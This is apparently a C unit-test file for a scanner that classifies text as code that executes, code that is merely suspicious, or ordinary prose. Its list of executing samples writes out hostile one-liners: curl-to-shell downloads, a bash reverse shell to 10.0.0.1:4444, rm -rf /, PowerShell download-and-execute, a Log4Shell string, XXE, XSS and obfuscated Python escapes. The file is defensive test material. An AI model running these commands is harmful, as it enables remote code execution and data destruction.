/* SPDX-License-Identifier: Apache-2.0 */
/* Texts that act, that only name what could, and that are ordinary. */
#include "guest/scan/limits.h"
#include "guest/scan/text/code_patterns.h"
#include "guest/scan/text/code_text.h"
#include "unit/harness.h"

#include <ctype.h>
#include <string.h>

static enum code_text judge(const char *text)
{
    size_t offset = SIZE_MAX;
    const char *what = NULL;
    enum code_text judged = code_text_judge(text, strlen(text), &offset, &what);

    if (judged != CODE_TEXT_NONE)
        CU_ASSERT_TRUE_FATAL(offset < strlen(text) && what != NULL);
    return judged;
}

static void check(const char *const *texts, size_t count, enum code_text expected)
{
    for (size_t i = 0; i < count; i++)
        if (judge(texts[i]) != expected) {
            fprintf(stderr, "judged %d, not %d: %s\n", (int)judge(texts[i]), (int)expected, texts[i]);
            CU_FAIL("a text is judged wrongly");
        } else {
            CU_PASS("as expected");
        }
}

static void test_acting_texts(void)
{
    static const char *const texts[] = {
        "__import__('os').system('id')",
        "import os; os.system('id')",
        "lambda x: eval('1+1')",
        "eval ('1+1')",
        "exec(open('/tmp/x').read())",
        "from os import system as s; s('id')",
        "import subprocess; subprocess.call(['id'])",
        "getattr(__import__('o'+'s'), 'sys'+'tem')('id')",
        "().__class__.__bases__[0].__subclasses__()",
        "\\x5f\\x5fimport\\x5f\\x5f('os')",
        "\xef\xbd\x85\xef\xbd\x96\xef\xbd\x81\xef\xbd\x8c('1')",                 /* fullwidth "eval" */
        "\xf0\x9d\x93\xae\xf0\x9d\x94\x81\xf0\x9d\x93\xae\xf0\x9d\x93\xac('1')", /* bold script "exec" */
        "socket.create_connection(('10.0.0.1', 4444))",
        "pickle.loads(data)",
        "#!/bin/sh\necho hello",
        "#! /usr/bin/env python3\n",
        "curl -fsSL https://example.com/i.sh | sh",
        "wget -qO- http://example.com/x | sudo bash",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "rm -rf /",
        "rm -rf ~/x && echo done",
        "echo aWQ= | base64 -d | sh",
        "powershell -NoProfile -EncodedCommand SQBFAFgA",
        "IEX (New-Object Net.WebClient).DownloadString('http://x')",
        "cmd.exe /c calc",
        "<script>alert(1)</script>",
        "<SCRIPT src=//x>",
        "<img src=x onerror=alert(1)>",
        "require('child_process').exec('id')",
        "new Function('return 1')()",
        "os.execute(\"id\")",
        "Runtime.getRuntime().exec(\"id\")",
        "${jndi:ldap://x/a}",
        "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hosts\">]>",
        "X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk=",                     /* base64 of __import__('os').system('id') */
        "5f5f696d706f72745f5f28276f7327292e73797374656d28276964272920", /* the same in hex */
        "cABvAHcAZQByAHMAaABlAGwAbAAgAC0AYwAgAGMAYQBsAGMA",             /* UTF-16 of powershell -c calc */
    };

    check(texts, HARNESS_COUNT(texts), CODE_TEXT_EXECUTES);
}

static void test_naming_texts(void)
{
    static const char *const texts[] = {
        "import os\n",
        "base64.b64decode(x)",
        "os.environ['HOME']",
        "see /etc/passwd",
        "\\x48\\x65\\x6c\\x6c\\x6f\\x20\\x57\\x6f",
        "<iframe src=x>",
    };

    check(texts, HARNESS_COUNT(texts), CODE_TEXT_SUSPICIOUS);
}

static void test_ordinary_texts(void)
{
    static const char *const texts[] = {
        "",
        "eval",
        "system",
        "__class__",
        "A small transformer model for text classification, 94.5% accurate.",
        "model.eval()\nwith torch.no_grad():\n    logits = model(x)",
        "You are a helpful assistant. Execute the user's instructions (if any) and evaluate them.",
        "platform.system()",
        "pattern.exec(text)",
        "operating system (Linux), retrieval (dense), eval (see below)",
        "Call the function with `import` statements; don't exec anything.",
        "sklearn.linear_model._logistic.LogisticRegression",
        "https://huggingface.co/org/model/resolve/main/model.safetensors",
        "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
        "<|im_start|>system\n{{ message }}<|im_end|>",
        "C:\\Users\\new\\training\\x86",
        "the node - a vertex - is removed",
        "data is compiled (offline) from open sources",
        "requests per second; sockets; the shell of the egg | the wall",
        "<description>a & b</description>",
    };

    check(texts, HARNESS_COUNT(texts), CODE_TEXT_NONE);
}

static void test_place_is_told(void)
{
    const char *text = "harmless words, then os.system('id')", *what;
    size_t offset;

    CU_ASSERT_EQUAL(code_text_judge(text, strlen(text), &offset, &what), CODE_TEXT_EXECUTES);
    CU_ASSERT_EQUAL(offset, 21);
    CU_ASSERT_STRING_EQUAL(what, "a system command");
}

/* A call that lies across the border of two views, and far behind the first. */
static void test_long_text(void)
{
    const size_t size = 3 * SCAN_VIEW_MAX;
    const char *code = "os.system('id')", *what = NULL;
    char *text = malloc(size);

    CU_ASSERT_PTR_NOT_NULL_FATAL(text);
    for (size_t place = SCAN_VIEW_MAX - 20; place < SCAN_VIEW_MAX + 20; place++) {
        enum code_text judged = CODE_TEXT_NONE;
        struct source *source;
        uint64_t offset = 0;

        memset(text, ' ', size);
        memcpy(text + place, code, strlen(code));
        source = source_of_memory(text, size);
        CU_ASSERT_PTR_NOT_NULL_FATAL(source);
        CU_ASSERT_EQUAL(code_text_judge_source(source, 1, size + 5, &judged, &offset, &what, NULL), 0);
        CU_ASSERT_EQUAL(judged, CODE_TEXT_EXECUTES);
        CU_ASSERT_EQUAL(offset, place);
        source_free(source);
    }
    free(text);
}

/* No text is long to judge, and none leads out of bounds: all pairs and triples of what the lexer knows. */
static void test_any_bytes(void)
{
    static const char alphabet[] = "\\x'\"+ n\xef\xbc\xf0\x9d\xff\0(.";
    char text[64];
    size_t offset;
    const char *what;

    for (size_t i = 0; i < 4000; i++) {
        for (size_t k = 0; k < sizeof text; k++)
            text[k] = alphabet[(i * 7919 + k * k * 31 + i / (k + 1)) % (sizeof alphabet - 1)];
        for (size_t size = 0; size <= sizeof text; size += 9)
            CU_ASSERT_TRUE(code_text_judge(text, size, &offset, &what) <= CODE_TEXT_EXECUTES);
    }
}

/* What the table promises: sorted, tokens one blank apart, at most one gap. */
static void test_table(void)
{
    for (size_t i = 0; i < code_pattern_count; i++) {
        const char *tokens = code_patterns[i].tokens, *gap = strstr(tokens, "...");
        size_t length = strlen(tokens);

        CU_ASSERT_TRUE(length > 0 && tokens[length - 1] != ' ' && strstr(tokens, "  ") == NULL);
        CU_ASSERT_TRUE(gap == NULL || strstr(gap + 3, "...") == NULL);
        CU_ASSERT_PTR_NULL(memchr(tokens, ',', strcspn(tokens, " ")));
        if (i > 0)
            CU_ASSERT_TRUE(tolower((unsigned char)code_patterns[i - 1].tokens[0]) <= tolower((unsigned char)tokens[0]));
    }
}

int main(void)
{
    static const struct harness_test tests[] = {
        {"texts that act", test_acting_texts},
        {"texts that name what could act", test_naming_texts},
        {"ordinary texts", test_ordinary_texts},
        {"the place is told", test_place_is_told},
        {"a long text", test_long_text},
        {"any bytes", test_any_bytes},
        {"the table", test_table},
    };

    return harness_run("code_text", tests, HARNESS_COUNT(tests));
}
